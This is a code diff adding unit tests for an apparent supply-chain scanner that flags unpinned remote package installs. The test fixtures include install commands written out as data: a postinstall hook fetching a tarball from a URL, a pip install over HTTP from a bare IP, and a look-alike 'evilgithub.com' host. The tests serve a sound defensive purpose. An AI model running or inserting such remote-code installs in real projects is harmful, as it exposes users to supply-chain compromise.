@@ -6,6 +6,7 @@ import { findGoRunsUnpinned } from '../../../src/ecosystems/shell/go-run.js';
 import { findRemoteInstalls, findUnpinnedAdds } from '../../../src/ecosystems/shell/remote-installs.js';
 import { scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
 import { makeFile } from '../../support/snapshot-factory.js';
+import { analyze, change, pkg, snapshotOf } from '../../support/supply-chain-snapshot.js';
 
 const SHA = 'b4ffde65f46336ab88eb53be808477a3936bae11';
 const HASH = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
@@ -36,6 +37,7 @@ describe('findRemoteInstalls', () => {
     expect(installs('npm install -g https://github.com/someone/cli/releases/latest/download/cli-1.2.0.tgz')).toEqual(['url moving']);
     expect(installs('pip install https://github.com/someone/nbext/tarball/master yapf')).toEqual(['url moving']);
     expect(installs('npx --yes --package=https://github.com/someone/cli/releases/download/v1.0.0/cli.tgz cli --help')).toEqual(['url tag']);
+    expect(installs('conda run -n peft pip install ninja && conda run -n peft pip install --no-build-isolation git+https://github.com/someone/kernels.git')).toEqual(['git moving']);
     expect(installs('pipenv install git+https://github.com/someone/pkg@develop#egg=pkg')).toEqual(['git moving']);
   });
 
@@ -212,5 +214,23 @@ describe('gha-unpinned-tool for a URL install, and the own organization', () => 
     const findings = extractDockerfile('FROM python:3.12\nRUN pip install git+https://github.com/Acme/helper@main\n', 'Dockerfile').findings ?? [];
     expect(lowerOwnOrganization(findings, 'acme').filter((f) => f.id === 'remote-package-install').map((f) => f.severity)).toEqual(['low']);
     expect(lowerOwnOrganization(findings, 'octo-org').filter((f) => f.id === 'remote-package-install').map((f) => f.severity)).toEqual(['medium']);
+    // A look-alike host is not the organization's.
+    const lookalike = extractDockerfile('FROM python:3.12\nRUN pip install git+https://evilgithub.com/acme/helper@main\n', 'Dockerfile').findings ?? [];
+    expect(lowerOwnOrganization(lookalike, 'acme').filter((f) => f.id === 'remote-package-install').map((f) => f.severity)).toEqual(['medium']);
+  });
+});
+
+describe('remote-package-install in package scripts', () => {
+  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
+    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
+      .findings.filter((f) => f.id === 'remote-package-install')
+      .map((f) => `${f.severity} ${f.line}`);
+  it('reports a script the PR adds that installs from a URL without a hash or a moving git ref', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', postinstall: 'npm install -g https://cdn.example.dev/helper.tgz' })).toHaveLength(1);
+    expect(found({ test: 'vitest' }, { test: 'vitest', setup: 'pip install git+http://198.51.100.7/helper' })[0]).toMatch(/^high /);
+  });
+  it('leaves a script the base had, and registry or pinned installs, alone', () => {
+    expect(found({ postinstall: 'npm install -g https://cdn.example.dev/helper.tgz' }, { postinstall: 'npm install -g https://cdn.example.dev/helper.tgz && echo ok', test: 'vitest' })).toEqual([]);
+    expect(found({ test: 'vitest' }, { test: 'vitest', tools: `npm install -g typescript@5.6.3 && pip install git+https://github.com/someone/pkg@${SHA}` })).toEqual([]);
   });
 });
